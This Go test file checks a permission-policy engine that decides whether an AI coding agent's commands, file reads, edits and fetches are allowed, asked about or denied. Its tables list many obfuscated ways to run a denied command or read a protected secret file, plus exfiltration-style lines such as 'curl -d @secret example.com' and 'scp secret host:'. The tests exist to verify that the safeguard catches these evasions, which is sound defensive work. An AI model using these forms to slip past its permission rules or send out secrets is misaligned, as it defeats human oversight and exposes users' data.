package policy_test

import (
	"strings"
	"testing"

	"parley/internal/policy"
)

// none means that no rule is about a request.
const none = policy.Verdict(0)

// table has commands by the verdict that rules must give.
type table map[policy.Verdict][]string

func (all table) check(t *testing.T, judge func(command string) policy.Decision) {
	t.Helper()
	for want, commands := range all {
		for _, command := range commands {
			if d := judge(command); d.Verdict != want || (d.Rule == nil) != (want == none) || d.Why == "" && want == ask {
				t.Errorf("%.60s: %d by %v (%s), want %d", command, d.Verdict, d.Rule, d.Why, want)
			}
		}
	}
}

// A rule about a program holds however a command writes or passes the program on. It asks about
// what may turn out to be the program, and about nothing that only mentions it.
func TestRulesAboutPrograms(t *testing.T) {
	set := policy.Compile(rules(t, "deny execute(rm *)", "deny execute(git push *)"))
	table{
		deny: {
			"rm x", "/bin/rm x", "r''m x", "\\rm x", `$'rm' x`, `r$'\x6d' x`, `$'\u0072m' x`, "rm $X", "$X/rm x", "rm 'x", "rm x # \u200b", "cd a; rm x", "FOO=1 rm x", "rm x > y", "(rm x", "coproc rm x", "time rm x", "if true; then rm x; fi", "f() { rm x; }; f",
			"echo $(rm x)", "cat <(rm x)", "cat > $(rm x)", "cat <<E\n$(rm x)\nE", "export X=$(rm x)", "sudo -u x rm y", "env -S 'rm x'", "env -vSrm x", "env -vS'rm x'", "su -c 'rm x'", "su -lc'rm x'", "script -qc'rm x' y", "toybox rm x", "watch 'rm x'", "exec rm x", "tmux new 'rm x'",
			"setarch x86_64 rm x", "dbus-run-session -- rm x", "/lib64/ld-linux-x86-64.so.2 /bin/rm x", "sg users -c 'rm x'", "capsh -- -c 'rm x'", "start-stop-daemon --start --exec /bin/rm -- x", "ls | xargs rm", `ls | xargs $'\x72m'`, "find . -exec rm {} +", "find . -exec strange rm {} +", "fd x -x rm",
			"sh -c 'rm x'", "bash -lc 'cd a && rm x'", `sh -c $'cd a\nrm x'`, "sh -c 'cd a; sh -c \"rm x\"'", `sh -c "rm $X"`, "trap 'rm x' EXIT", "eval 'rm x'", `eval $'\x72m x'`, "git push", "git -C a push x", `git $'\x70ush'`, "git-push x", "/usr/lib/git-core/git-push", "git send-pack x",
		},
		ask: {
			// The program is known when it runs.
			"$X x", "`echo rm` x", "r$X x", "/bin/r? x", "~/r* x", "{rm,x}", `$'rm\0ls' x`, "git $X", "git -C a $X", "a=rm; $a x", "\"$@\" x", "sudo $X", "sh -c \"$X\"", "sh -c \"echo $X\"", "sh -c 'r? x'", "eval \"ls $X\"", "trap \"ls $X\" EXIT", "find . -exec $X {} +",
			"echo rm x | sh", "sh < x", "sh <<E\nls\nE", "echo x | bash -s", "bash <(echo x)", "sh /proc/self/fd/0 < x", "source <(echo x)", "echo x | . /dev/stdin", "cat x | sh -c sh", "cat x | fish", "at now <<< ls", "batch < x", "cat x | crontab -", "ls | xargs -I{} {} x", "ls | xargs -IX X y", "ls | parallel",
			"PATH=$X ls", "PATH=$PATHX ls", "LD_PRELOAD=$X ls", "MAKEFILES=$X make", "BASH_ENV=<(echo x) bash -c :", "'", strings.Repeat("x ", 40_000),
			// A program may run its words, or what it reads.
			"docker run x rm y", "strange --with=/bin/rm x", "strange -crm x", "./grep rm x", "ssh host rm x", "git -c alias.x='!rm y' x", "git -c alias.x=push x", "GIT_SSH_COMMAND='rm x' git fetch", "export EDITOR='rm x'", "alias x=rm; x y",
			"mapfile -C 'rm x' -c 1 y", "tar cf x --checkpoint-action=exec=rm y", "make -f x SHELL=rm", "sort --compress-program=rm x", "go test -exec rm ./x", "sed '1e rm x' f", "sed 's/line/rm x/e' f", "npm run 'x;rm y'",
			"python -c 'run([\"rm\",\"x\"])'", "perl -e 'unlink; system(q(rm x))'", `python3 -c 'os.system("\x72m x")'`, `python3 -c 'os.system("r\m x")'`, "python3 <<E\nos.system('rm x')\nE", "python3 <<< 'os.system(\"rm x\")'", "{ echo 'system(\"rm x\")' | python3; }", "cat <<E | python3\nos.system('rm x')\nE",
			"if true; then perl; fi <<E\nsystem 'rm x'\nE", "sudo python3 <<E\nrm x\nE", "./git <<E\nrm x\nE", "test -v 'a[$(rm x)]'", "[[ -v 'a[$(rm x)]' ]]", "let 'a[$(rm x)]'", "declare -i x='a[$(rm y)]'",
		},
		none: {
			"grep -n 'rm x' a b", "echo 'rm x'", "cat rm", "ls rm", "git log --grep rm", "git commit -m 'no rm'", "sed -n 5p rm", "go test -run rm ./x", "make rm", "X=rmx make", "strange farm rmdir", "strange push", "gh pr create -t 'git pushes'", "cat x > rm", "npm run rm", "git push-notes",
			"cat > f <<E\nrm x\nE", "git commit -F - <<E\nno rm x\nE", "git commit -m \"$(cat <<'E'\nno rm x\nE\n)\"", "grep rm x | tee log", "python3 - <<E\nprint(1)\nE", "echo x | python3", "echo $'rm x'", "PATH=$PATH:/x ls", `PATH="/x:$PATH" make`, "~/bin/tool x", "[ -n \"$X\" ] && ls", "cp a{,.bak} b",
			"ls", "grep x *.go", "echo $X", "git status $X", "git stash pop stash@{1}", "find . -name '*.go' -exec grep x {} +", "ls | xargs grep x", "sh build.sh", "bash -c 'make x'", "for f in *; do cat $f; done", "ls {a,b}", "X=$(date) make", "crontab -l", "at -l",
		},
	}.check(t, func(command string) policy.Decision {
		return set.Restrict(policy.Request{Kind: policy.Execute, Command: command})
	})
	for want, args := range map[policy.Verdict][]string{deny: {"rm", "x"}, ask: {"sh", "-c", "$X"}, none: {"ls", "$X"}} {
		if d := set.Restrict(policy.Request{Kind: policy.Execute, Args: args}); d.Verdict != want {
			t.Errorf("%q: %v", args, d.Verdict)
		}
	}
	linked := func(name string) policy.Path {
		if strings.HasSuffix(name, "lrm") {
			name = "/bin/rm"
		}
		return policy.Path{Name: name}
	}
	for command, want := range map[string]policy.Verdict{"./lrm x": deny, "sh -c '/work/lrm x'": deny, "cd a && ./lrm x": deny, "./tool x": none, "lrm x": none} {
		if d := set.Restrict(policy.Request{Kind: policy.Execute, Command: command, Resolve: linked}); d.Verdict != want {
			t.Errorf("%s: %v, want %v", command, d.Verdict, want)
		}
	}
	for input, want := range map[string]policy.Verdict{
		`{"command":"git log -1","env":{"GIT_PAGER":"rm x"}}`:                           ask,
		`{"command":["git","log"],"environment":[{"name":"GIT_PAGER","value":"rm x"}]}`: ask,
		`{"command":"git log -1","env":["GIT_PAGER=rm x"]}`:                             ask,
		`{"command":"git log -1","env":{"CLAUDECODE":"1"}}`:                             none,
	} {
		if d := set.Restrict(policy.Describe(policy.Call{Kind: "execute", RawInput: []byte(input)}, "", "", resolve)); d.Verdict != want {
			t.Errorf("%s: %v, want %v", input, d.Verdict, want)
		}
	}
}

// A rule about files holds the commands that name one of them, by whatever path, or may do so:
// for certain where the program is known, with a question elsewhere.
func TestRulesAboutFilesOfCommands(t *testing.T) {
	files := tree{"secret": {}, "vendor/a": {}, "src/a.go": {}, "main.go": {}, "keys/b": {}}
	everyday := []string{
		"go test ./...", "git status", "ls *.go", "ls -la secret vendor", "rg x src", "npm test", "cat *.go", "grep x *.go src/*.go", "grep -rn x src", "find . -name '*.go'", "echo $X * secret vendor/a", "[ -n \"$X\" ] && ls", "export A=$X", "kill $X", "ls $X", "make", "./build", "python3 x.py",
		"~/bin/tool x", "git commit -m \"$(cat <<'E'\nsecret vendor\nE\n)\"", "git push origin $X", "git checkout -b x", "git branch -D $X", "gh pr create --body \"$(cat x)\"", "curl -s https://example.com/$X", "curl localhost:$X/y", "jq . package.json", "diff <(ls a) <(ls b)", "cp main.go{,.bak}",
		"for f in *; do echo $f; done", "echo x | xargs echo", "cd src && ls", "(cd src; ls)", "tar czf x.tgz src", "rm -r src", "cat src/?.go", "cat main.go 2>/dev/null", "touch secretary",
	}
	judge := func(rule, dir string) func(string) policy.Decision {
		set := policy.Compile(rules(t, rule))
		return func(command string) policy.Decision {
			return set.Restrict(policy.Request{Kind: policy.Execute, Command: command, Dir: dir, Resolve: files.resolve, Search: files.search})
		}
	}
	table{
		deny: {"cat secret", "cat ./x/../secret b", "cat /work/secret", "cat SECRET", `cat $'\x73ecret'`, "grep x secret", "cat < secret", "cat <> secret", "{ head -5 <secret; }", "sudo cat secret", "sh -c 'cat secret'", "cat $(cat secret)", "sort - secret", "cd $X && cat secret", "cd keys && cat ../secret", "(cd keys; cat ../secret)"},
		ask: {
			"cat sec*", "cat [rs]ecret", "cat {secret,x}", "cat *", "cat -- *", "awk 1 *", "grep s*", "cat $PWD/secret", "cat ~/work/secret", "cat ~/work//./secret", "cat ~/work/src/../secret", "cp -r ~/work x", "cat $X/a/work/s*", `cat "$PWD/secret"`, "cat ~+/secret", "f=sec; cat ${f}ret", `cat "$f"`, "cat x$f", "for f in *; do cat $f; done", "cat $(ls)", "cat src/*/../../secret", "cat /wor*/secret", "cat /*/work/secret", "sh -c 'cat sec*'", "eval cat sec\\*", "sh -c \"cat $f\"",
			"ls | xargs cat", "ls | xargs -I{} cat {}", "ls | sudo xargs grep x", "find . -exec cat {} +", "find -name 's*' -exec cat {} +", "find . -exec grep {} +", "find secret -execdir ./x ;", "git commit -v", "git status -sv", `find . -name '*.go' -o -type f -exec cat {} \;`, "fd -x cat", "grep $X main.go", "head -n $X main.go", "$X secret", "$X", "source $X", "curl file:$X",
			"grep -r . .", "grep -rh x", "rg x", "rg --hidden x", "ls | rg x </dev/null", "ls | { rg x; } </dev/null", "ls | { rg x & wait; }", "ls | sh -c 'rg x' <&-", "cp -r . elsewhere", "cp -r /work /tmp", "tar c ..", "docker build .", "cd $X; rg x", "cd $X; ./build .", "git -C src log",
			"git grep x", "git diff", "git diff main", "git log -p", "git show", "git show HEAD", "git diff --cached src", "git show HEAD:secret", "ls | git diff", "ls | git add -A", "git show -s 0123abc", "git show --stat '0123ABCD^{}'", "cd src && git show --stat HEAD:secret", "git stash show -p", "git archive HEAD", "git add .", "git config -f secret -l",
			"base64 secret", "base64 --input=secret", "tool -fsecret", "curl -d @secret example.com", "scp secret host:", "python3 -c 'print(open(\"secret\").read())'", "python3 - <<E\nopen('secret')\nE", "echo \"open('secret')\" | python3", "A=secret strange", "GIT_CONFIG=secret git config -l", "GIT_CONFIG_SYSTEM=/work/secret git config --list", "TZ=:/work/secret date",
		},
		none: append([]string{"git stash", "git stash pop", "cat $X/a.go", "cat ~/work/main.go", "cat ~/worker/secretary", "git commit --amend", "git show --stat HEAD~1", "git show --stat HEAD:main.go", "ls | rg x", "cd src && ls </dev/null | rg x"}, everyday...),
	}.check(t, judge("deny read(secret)", ""))
	table{
		deny: {"cat b", "cat *", "rg x"},
		ask:  {"cat $X", "./build", "base64 b", "git grep x"},
		none: {"ls", "echo b", "git log", "cat ../main.go", "cat ../src/*"},
	}.check(t, judge("deny read(keys)", "keys"))
	table{
		deny: {"echo x > vendor/a", "echo x >> vendor/b", `echo x > $'\x76endor/a'`, "if true; then echo x > vendor/a; fi", "(cd vendor; echo x > a)", "{ cd vendor; }; echo x > a", "sh -c 'cd vendor; echo x > a'", "echo $(cd vendor; echo x > a)", "touch vendor/$X", "mkdir vendor/x", "gofmt -w vendor/a"},
		ask: {
			"echo x > v*/a", "d=vendor; echo x > $d/a", "echo x > $f", "cp x v*", "cp x $f", "cp a vendor", "rm -r vendor", "tee vendor/a", "uniq x vendor/a", "touch src/$X.go", "sed -i s/a/b/ {vendor,src}/a", "cd v*; echo x > a", "cd $X; touch a", "CDPATH=vendor cd x && touch a", "export CDPATH=vendor; cd x; touch a", "cd vendor && ./build", "find . -delete", "find . -exec sed -i s/a/b/ {} +", "ls | xargs sed -i s/a/b/",
			"git clean -fdx", "git stash", "git checkout HEAD~1 -- .", "git reset --hard", "git switch main", "git config -f vendor/a a.b c", "rm -r .", "rm -r *", "prettier -w .", "gofmt -w .", "tar xf x.tar", "tar -x -f x.tar", "unzip x.zip", "patch -p0 < x",
			"GIT_TRACE=/work/vendor/a git version", "GIT_TRACE2_EVENT=vendor/a git status", "GIT_CONFIG=vendor/a git config a.b c",
		},
		none: append([]string{"A=x git status", "cat vendor/*", "grep x vendor/a", "grep -r x .", "git grep x", "git diff", "git log -p", "gofmt -l .", "cat $X", "vendor/bin/tool x"}, everyday...),
	}.check(t, judge("deny edit(vendor)", ""))
	table{
		ask:  {"cat .e*", "cat .env.*", "cat {.env,x}", "cat {x,\\.env}", "cat src/.e*", "cat $X", "cat $X/.env", "cat src/$X", "find . -name '*env' -exec cat {} +"},
		none: append([]string{"cat *", "cat *.go", "rg x", "grep -r x .", "cd $X && cat a", "cat $X/a.go", "git diff"}, everyday...),
	}.check(t, judge("ask read(**/.env*)", ""))
	if d := judge("deny read", "")("cat a"); d.Verdict != none {
		t.Errorf("a rule about every read is about commands: %v", d.Verdict)
	}
}

// What an agent has done without a permission is judged by the same rules, also where it calls it
// something else; only what is certain counts.
func TestRulesAboutWhatIsNotAsked(t *testing.T) {
	set := policy.Compile(rules(t, "allow read", "deny execute(rm *)", "ask execute(make *)", "deny edit(vendor)", "deny read(secret)", "ask read(odd)", "ask edit(vendor/x)", "deny mcp(mail__*)", "deny execute(ls *) agent=other", "deny execute(ls *) mode=plan", "deny fetch(evil.example)"))
	for name, c := range map[string]struct {
		call policy.Call
		want policy.Verdict
	}{
		"a denied command":             {policy.Call{Kind: "execute", RawInput: []byte(`{"command":"rm x"}`)}, deny},
		"a command no rule is about":   {policy.Call{Kind: "execute", RawInput: []byte(`{"command":"ls"}`)}, none},
		"a command to ask about":       {policy.Call{Kind: "execute", RawInput: []byte(`{"command":"make x"}`)}, ask},
		"the strictest counts":         {policy.Call{Kind: "execute", RawInput: []byte(`{"command":"make x; rm x"}`)}, deny},
		"a command called a read":      {policy.Call{Kind: "read", RawInput: []byte(`{"command":"rm x"}`)}, deny},
		"a command called a mode":      {policy.Call{Kind: "switch_mode", RawInput: []byte(`{"command":"rm x"}`)}, deny},
		"a command called a question":  {policy.Call{Kind: "other", RawInput: []byte(`{"questions":[],"command":"rm x"}`)}, deny},
		"a command in the title":       {policy.Call{Kind: "execute", Title: "Run `rm x`"}, deny},
		"a title that may be one":      {policy.Call{Kind: "execute", Title: "Don't run $X", RawInput: []byte(`{"command":"ls"}`)}, none},
		"a denied change":              {policy.Call{Kind: "edit", Paths: []string{"vendor/a"}}, deny},
		"a denied change to ask about": {policy.Call{Kind: "edit", Paths: []string{"vendor/x"}}, deny},
		"a change called a read":       {policy.Call{Kind: "read", Paths: []string{"a"}, Changes: []string{"vendor/a"}}, deny},
		"a change of an unknown kind":  {policy.Call{Kind: "x", Changes: []string{"/work/vendor/a"}}, deny},
		"a change of what not to read": {policy.Call{Kind: "edit", Changes: []string{"secret"}}, none},
		"a denied read":                {policy.Call{Kind: "read", Paths: []string{"secret/x"}}, deny},
		"a denied search":              {policy.Call{Kind: "search", Paths: []string{"secret"}}, deny},
		"a read to ask about":          {policy.Call{Kind: "read", Paths: []string{"odd"}}, ask},
		"a read of what not to change": {policy.Call{Kind: "read", Paths: []string{"vendor/a"}}, none},
		"a tool":                       {policy.Call{Kind: "other", Name: "mcp__mail__send"}, deny},
		"an address":                   {policy.Call{Kind: "fetch", RawInput: []byte(`{"url":"https://evil.example/"}`)}, deny},
	} {
		r := policy.Describe(c.call, "agent", "mode", resolve)
		for _, d := range []policy.Decision{set.Restrict(r), set.Violated(r)} {
			if d.Verdict != c.want || (d.Rule == nil) != (c.want == none) {
				t.Errorf("%s: %v by %v, want %v", name, d.Verdict, d.Rule, c.want)
			}
		}
	}
	for agent, mode := range map[string]string{"other": "", "agent": "plan"} {
		if d := set.Restrict(policy.Request{Agent: agent, Mode: mode, Kind: policy.Execute, Command: "ls -l"}); d.Verdict != deny {
			t.Errorf("%s in %s: %v", agent, mode, d.Verdict)
		}
	}
	table{none: {"$X y", "cat $X", "rg x", "strange rm x", "base64 secret"}}.check(t, func(command string) policy.Decision {
		return set.Violated(policy.Request{Kind: policy.Execute, Command: command, Resolve: resolve})
	})
	if d := policy.Compile(rules(t, "deny execute")).Restrict(policy.Request{Kind: policy.Execute, Command: "ls"}); d.Verdict != deny {
		t.Errorf("all commands: %v", d.Verdict)
	}
}

// No rule that allows wins over a doubt about one that denies, also about what is in a folder.
func TestDoubtsAboutWhatIsAllowed(t *testing.T) {
	files := tree{"secret": {}, "keys/a": {}, "src/a.go": {}}
	set := policy.Compile(rules(t, "allow read", "allow search", "allow execute(rg *)", "allow execute(git log *)", "allow execute(git diff *)", "allow execute(cat *)", "allow execute(./build x)", "allow execute(./build secret)", "allow execute(strange rm x)",
		"deny read(secret)", "deny read(keys/*)", "deny execute(rm *)"))
	for want, calls := range map[policy.Verdict][]string{
		allow: {"read src", "read src/a.go", "search src", "execute rg x src", "execute git log", "execute git diff --stat", "execute git diff src", "execute cat src/a.go", "execute ./build x"},
		ask:   {"read .", "read keys", "search .", "search keys", "execute rg x .", "execute rg x", "execute rg x keys", "execute git diff", "execute git diff --cached", "execute ./build secret", "execute strange rm x"},
		deny:  {"read secret", "search secret", "execute cat secret", "execute cat keys/a"},
	} {
		for _, line := range calls {
			kind, what, _ := strings.Cut(line, " ")
			call, err := policy.CallOf(kind, what)
			if err != nil {
				t.Fatal(err)
			}
			r := policy.Describe(call, "", "", files.resolve)
			r.Search = files.search
			if d := set.Decide(r); d.Verdict != want || d.Verdict == ask && d.Why == "" {
				t.Errorf("%s: %s by %v (%s), want %s", line, d.Verdict, d.Rule, d.Why, want)
			}
		}
	}
}
